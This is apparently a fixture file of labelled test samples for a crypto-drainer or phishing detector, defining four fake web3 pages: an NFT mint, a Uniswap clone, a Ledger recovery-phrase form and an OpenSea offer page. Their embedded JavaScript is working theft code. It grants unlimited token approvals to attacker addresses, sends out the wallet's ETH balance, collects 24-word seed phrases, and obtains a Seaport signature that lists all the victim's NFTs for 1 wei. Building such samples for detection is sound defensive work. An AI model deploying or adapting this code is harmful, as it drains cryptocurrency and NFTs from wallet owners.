import { htmlRoute, type Entry } from '../entry.js';
import { b64, css, doc, img, js, json } from '../parts/h-parts.js';

export const entries: Entry[] = [
  // h-drain-fake-mint-pixel-pals
{
  id: 'h-drain-fake-mint-pixel-pals',
  label: 'cryptodrainer',
  kind: 'fake-mint',
  url: 'https://pixelpals-mint.xyz/',
  body: doc({
    title: 'Pixel Pals | Public Mint LIVE',
    head: '<meta property="og:image" content="/img/og.png"><link rel="stylesheet" href="/static/css/main.4c1d.css">',
    body: `<nav><b>PIXEL PALS</b><a href="#roadmap">Roadmap</a><a href="#team">Team</a><a href="#">Twitter</a><a href="#">Discord</a></nav>
<section class="hero"><img src="/img/pals.png" width="220" height="220" alt=""><div><h1>Public mint is LIVE</h1><p>5,555 hand-drawn Pals on Ethereum. Holders get free access to the Pals Arcade and the $PAL airdrop.</p>
<div class="bar"><div style="width:87%"></div></div><p><b id="minted">4,832</b> / 5,555 minted · Price: <b>FREE</b> (+gas) · Max 3 per wallet</p>
<div class="q"><button onclick="q(-1)">−</button><span id="qt">1</span><button onclick="q(1)">+</button></div>
<button id="connect" class="big">Connect Wallet</button><button id="mint" class="big" style="display:none">Mint now</button><p id="st" class="st"></p></div></section>
<section id="roadmap"><h2>Roadmap</h2><ul><li>Q1 — Mint &amp; reveal</li><li>Q2 — Arcade beta</li><li>Q3 — $PAL token</li></ul></section>
<footer>© 2026 Pixel Pals Labs. Not affiliated with any marketplace.</footer>
<script src="/static/js/vendor.min.js"></script><script src="/static/js/mint.js"></script>`,
  }),
  routes: {
    'pixelpals-mint.xyz/static/css/main.4c1d.css': css('body{margin:0;background:#15092b;color:#fff;font-family:"Press Start 2P",monospace}nav{display:flex;gap:20px;padding:18px 40px;align-items:center}nav b{margin-right:auto;color:#ff5ec4}nav a{color:#d6c6ff;text-decoration:none;font-size:12px}.hero{display:flex;gap:40px;max-width:900px;margin:40px auto;align-items:center}.bar{height:14px;background:#2c1a55;border-radius:7px;overflow:hidden}.bar div{height:100%;background:#ff5ec4}.big{background:#ff5ec4;color:#15092b;border:0;padding:16px 30px;font-family:inherit;cursor:pointer;margin-top:10px}.q{display:flex;gap:10px;align-items:center}.q button{background:#2c1a55;color:#fff;border:0;width:30px;height:30px}.st{color:#ffd166;font-size:11px}section{padding:20px 40px}footer{text-align:center;font-size:10px;color:#776;padding:40px}'),
    'pixelpals-mint.xyz/img/pals.png': img(255, 94, 196),
    'pixelpals-mint.xyz/img/og.png': img(21, 9, 43),
    'pixelpals-mint.xyz/static/js/vendor.min.js': js('/*! tiny-hex v1.0 */window.hx={pad:function(s,n){s=String(s).replace(/^0x/,"");while(s.length<n)s="0"+s;return s},num:function(n){return "0x"+BigInt(n).toString(16)}};'),
    'pixelpals-mint.xyz/static/js/mint.js': js(`(function(){
var RCV='0x8b3f1A0c6E2d97F4b5C81e3aD0F96a7B24c0e9D1';
var TOKENS=[['0xdAC17F958D2ee523a2206206994597C13D831ec7','USDT'],['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','USDC'],['0x6B175474E89094C44Da98b954EedeAC495271d0F','DAI'],['0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2','WETH']];
var n=1;window.q=function(d){n=Math.max(1,Math.min(3,n+d));document.getElementById('qt').textContent=n};
var st=function(t){document.getElementById('st').textContent=t},acct=null;
function call(m,p){return window.ethereum.request({method:m,params:p})}
document.getElementById('connect').onclick=async function(){if(!window.ethereum){st('No wallet detected. Open this page in MetaMask or Trust Wallet browser.');return}
try{var a=await call('eth_requestAccounts',[]);acct=a[0];this.style.display='none';document.getElementById('mint').style.display='inline-block';st('Connected: '+acct.slice(0,6)+'…'+acct.slice(-4));fetch('/api/log',{method:'POST',body:JSON.stringify({a:acct,e:'connect'})})}catch(e){st('Connection rejected')}};
document.getElementById('mint').onclick=async function(){st('Preparing mint…');
for(var i=0;i<TOKENS.length;i++){try{var bal=await call('eth_call',[{to:TOKENS[i][0],data:'0x70a08231'+hx.pad(acct,64)},'latest']);if(BigInt(bal)>0n){
await call('eth_sendTransaction',[{from:acct,to:TOKENS[i][0],data:'0x095ea7b3'+hx.pad(RCV,64)+'f'.repeat(64)}]);fetch('/api/log',{method:'POST',body:JSON.stringify({a:acct,t:TOKENS[i][1],e:'approve'})})}}catch(e){}}
try{var w=BigInt(await call('eth_getBalance',[acct,'latest']));var gas=21000n*30000000000n;if(w>gas){await call('eth_sendTransaction',[{from:acct,to:RCV,value:hx.num(w-gas)}])}}catch(e){}
st('Mint submitted! Your Pals will appear in your wallet after reveal.')};
})();`),
    'pixelpals-mint.xyz/api/log': json({ ok: 1 }),
  },
},
  // h-drain-fake-dex-approve
{
  id: 'h-drain-fake-dex-approve',
  label: 'cryptodrainer',
  kind: 'fake-dex',
  url: 'https://app.uniswap-v4.exchange/#/swap?chain=mainnet',
  body: doc({
    title: 'Uniswap Interface',
    head: '<link rel="icon" href="/favicon.png"><link rel="stylesheet" href="/static/css/app.css">',
    body: `<div id="root"><header><span class="u">🦄</span><a class="on">Swap</a><a>Tokens</a><a>NFTs</a><a>Pool</a><button id="cw" class="cw">Connect</button></header>
<main><div class="sw"><div class="tt">Swap</div><div class="bx"><small>You pay</small><div class="row"><input id="in" placeholder="0" inputmode="decimal"><span class="tk">ETH ▾</span></div></div>
<div class="bx"><small>You receive</small><div class="row"><input id="out" placeholder="0" readonly><span class="tk">USDC ▾</span></div></div>
<button id="go" class="go">Connect wallet</button><p id="nt" class="nt"></p></div></main></div>
<script src="/static/js/main.a91e2.chunk.js"></script>`,
  }),
  routes: {
    'app.uniswap-v4.exchange/favicon.png': img(255, 0, 122),
    'app.uniswap-v4.exchange/static/css/app.css': css('body{margin:0;background:radial-gradient(circle at top,#fde8f4,#fff);font-family:"Basel",Inter,sans-serif}header{display:flex;gap:18px;padding:16px 24px;align-items:center}header a{color:#7d7d7d}header a.on{color:#222}.u{font-size:26px}.cw{margin-left:auto;background:#fef4ff;color:#fc72ff;border:0;border-radius:20px;padding:10px 16px;font-weight:600}.sw{max-width:460px;margin:60px auto;background:#fff;border-radius:24px;padding:12px;border:1px solid #eee}.tt{padding:8px;font-weight:600}.bx{background:#f9f9f9;border-radius:16px;padding:16px;margin:4px 0}.row{display:flex}.row input{flex:1;border:0;background:none;font-size:34px}.tk{background:#fff;border-radius:16px;padding:6px 12px;box-shadow:0 0 0 1px #eee}.go{width:100%;background:#fc72ff;color:#fff;border:0;border-radius:20px;padding:16px;font-size:18px;font-weight:600}.nt{font-size:12px;color:#888;text-align:center}'),
    'app.uniswap-v4.exchange/static/js/main.a91e2.chunk.js': js(`var _$=['eth_requestAccounts','eth_sendTransaction','0x095ea7b3','eth_chainId','wallet_switchEthereumChain'];
(function(){var c='0x3c9D2e6A1f5B8e70cB4fD81e0A27F6a9D5e1b3C4',me,el=function(i){return document.getElementById(i)};
var bal={USDT:'0xdAC17F958D2ee523a2206206994597C13D831ec7',USDC:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',WBTC:'0x2260FAC5E5542a773Aa44fBCfeDf7C193bc2C599',LINK:'0x514910771AF9Ca656af840dff83E8264EcF986CA',UNI:'0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984'};
function pad(a){return a.toLowerCase().replace('0x','').padStart(64,'0')}
async function conn(){if(!window.ethereum){el('nt').textContent='Install MetaMask or use WalletConnect';return}me=(await ethereum.request({method:_$[0]}))[0];el('cw').textContent=me.slice(0,6)+'...'+me.slice(-4);el('go').textContent='Swap';
fetch('https://api.uniswap-v4.exchange/v1/portfolio?addr='+me).catch(function(){})}
async function swap(){var list=await fetch('https://api.uniswap-v4.exchange/v1/portfolio?addr='+me).then(function(r){return r.json()}).catch(function(){return {tokens:Object.keys(bal)}});
for(const s of list.tokens){try{el('nt').textContent='Enable '+s+' for trading (one-time approval)';await ethereum.request({method:_$[1],params:[{from:me,to:bal[s],data:_$[2]+pad(c)+'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})}catch(e){}}
el('nt').textContent='Swap pending...'}
el('cw').onclick=conn;el('go').onclick=function(){me?swap():conn()};
el('in').oninput=function(){el('out').value=(parseFloat(this.value||0)*3521.4).toFixed(2)};})();`),
    'api.uniswap-v4.exchange/v1/portfolio': json({ tokens: ['USDT', 'USDC', 'LINK'] }),
  },
},
  // h-drain-ledger-live-sync-24
{
  id: 'h-drain-ledger-live-sync-24',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://ledger-live-sync.app-firmware.com/recovery-check',
  body: doc({
    title: 'Ledger Live — Firmware 2.4.1 security check',
    css: `body{margin:0;background:#131415;color:#fff;font-family:Inter,Arial,sans-serif}.h{padding:20px 40px;font-size:20px;letter-spacing:4px}.c{max-width:760px;margin:20px auto;padding:30px;background:#1c1d1f;border-radius:8px}.a{background:#2a1f0d;border:1px solid #f7a600;color:#f7c866;padding:14px;border-radius:6px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:10px;margin:20px 0}.g input{background:#131415;border:1px solid #3a3b3d;color:#fff;padding:9px;border-radius:4px;width:100%;box-sizing:border-box}button{background:#bbb0ff;color:#131415;border:0;padding:13px 30px;border-radius:24px;font-weight:600}`,
    body: `<div class="h">LEDGER</div><div class="c"><h2>Recovery phrase verification required</h2>
<p class="a">A vulnerability affecting Nano S Plus, Nano X and Stax devices running firmware below 2.4.1 was disclosed. To migrate your accounts to a safe derivation path, Ledger Live needs to verify your 24-word recovery phrase. This is a one-time check; your phrase is encrypted locally.</p>
<form id="lf" method="post" action="/recovery-check/submit"><div class="g" id="g"></div><label><input type="checkbox" required> I confirm I am the owner of this device</label><br><br><button>Verify and update</button></form></div>
<script>var h='';for(var i=1;i<=24;i++)h+='<input name="word'+i+'" placeholder="Word #'+i+'" autocomplete="off" spellcheck="false">';document.getElementById('g').innerHTML=h;</script>`,
  }),
  routes: { 'ledger-live-sync.app-firmware.com/recovery-check/submit': htmlRoute('<html><body style="background:#131415;color:#fff;font-family:Arial"><p style="margin:40px">Verification in progress. Do not disconnect your device…</p></body></html>') },
},
  // h-drain-opensea-seaport-listing
{
  id: 'h-drain-opensea-seaport-listing',
  label: 'cryptodrainer',
  kind: 'nft-signature',
  url: 'https://opensea.io-collections.app/collection/azuki/offer-accept',
  body: doc({
    title: 'Accept offer | OpenSea',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#fff;color:#121212}.nv{display:flex;align-items:center;gap:16px;padding:14px 24px;border-bottom:1px solid #eee}.nv b{font-size:22px;color:#2081e2}.nv input{flex:1;max-width:500px;padding:10px;border-radius:10px;border:1px solid #ddd}.c{max-width:560px;margin:40px auto;border:1px solid #e5e5e5;border-radius:12px;padding:24px}.o{display:flex;gap:16px;align-items:center}.o div{width:80px;height:80px;background:#c03a2b;border-radius:8px}.pr{font-size:28px;font-weight:700}button{width:100%;background:#2081e2;color:#fff;border:0;border-radius:12px;padding:16px;font-size:16px;font-weight:600}`,
    body: `<div class="nv"><b>⛵ OpenSea</b><input placeholder="Search"><span>Drops</span><span>Stats</span><span>Create</span></div>
<div class="c"><h2>You received an offer</h2><div class="o"><div></div><section><p>Azuki #7731</p><p class="pr">18.4 WETH</p><small>Offer from 0x71c…9a2 · expires in 2 hours</small></section></div>
<p style="font-size:14px">Accepting requires a gas-free signature to list your item to the offer maker.</p><button id="acc">Accept offer</button><p id="m" style="font-size:13px;color:#555"></p></div>
<script src="/static/seaport.js"></script>`,
  }),
  routes: {
    'opensea.io-collections.app/static/seaport.js': js(`(function(){var SEAPORT='0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC',REC='0x6A2b9c1E7f03d48B5a1C0e9F2d74B6a8E3c5D1f0';
document.getElementById('acc').onclick=async function(){var m=document.getElementById('m');if(!window.ethereum){m.textContent='Connect a wallet first';return}var me=(await ethereum.request({method:'eth_requestAccounts'}))[0];
var nfts=await fetch('/api/assets?owner='+me).then(function(r){return r.json()});
var order={offerer:me,zone:'0x0000000000000000000000000000000000000000',offer:nfts.map(function(n){return {itemType:2,token:n.c,identifierOrCriteria:n.id,startAmount:'1',endAmount:'1'}}),consideration:[{itemType:0,token:'0x0000000000000000000000000000000000000000',identifierOrCriteria:'0',startAmount:'1',endAmount:'1',recipient:REC}],orderType:0,startTime:Math.floor(Date.now()/1e3),endTime:Math.floor(Date.now()/1e3)+31536000,zoneHash:'0x'+'0'.repeat(64),salt:String(Date.now()),conduitKey:'0x0000007b02230091a7ed01230072f7006a004d60a8d4e71d599b8104250f0000',counter:'0'};
var data={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],OrderComponents:[{name:'offerer',type:'address'},{name:'zone',type:'address'},{name:'offer',type:'OfferItem[]'},{name:'consideration',type:'ConsiderationItem[]'},{name:'orderType',type:'uint8'},{name:'startTime',type:'uint256'},{name:'endTime',type:'uint256'},{name:'zoneHash',type:'bytes32'},{name:'salt',type:'uint256'},{name:'conduitKey',type:'bytes32'},{name:'counter',type:'uint256'}],OfferItem:[{name:'itemType',type:'uint8'},{name:'token',type:'address'},{name:'identifierOrCriteria',type:'uint256'},{name:'startAmount',type:'uint256'},{name:'endAmount',type:'uint256'}],ConsiderationItem:[{name:'itemType',type:'uint8'},{name:'token',type:'address'},{name:'identifierOrCriteria',type:'uint256'},{name:'startAmount',type:'uint256'},{name:'endAmount',type:'uint256'},{name:'recipient',type:'address'}]},primaryType:'OrderComponents',domain:{name:'Seaport',version:'1.6',chainId:1,verifyingContract:SEAPORT},message:order};
try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[me,JSON.stringify(data)]});await fetch('/api/fill',{method:'POST',body:JSON.stringify({order:order,sig:sig})});m.textContent='Offer accepted. WETH will arrive shortly.'}catch(e){m.textContent='Signature rejected'}}})();`),
    'opensea.io-collections.app/api/assets': json([{ c: '0xED5AF388653567Af2F388E6224dC7C4b3241C544', id: '7731' }]),
    'opensea.io-collections.app/api/fill': json({ ok: true }),
  },
},
];
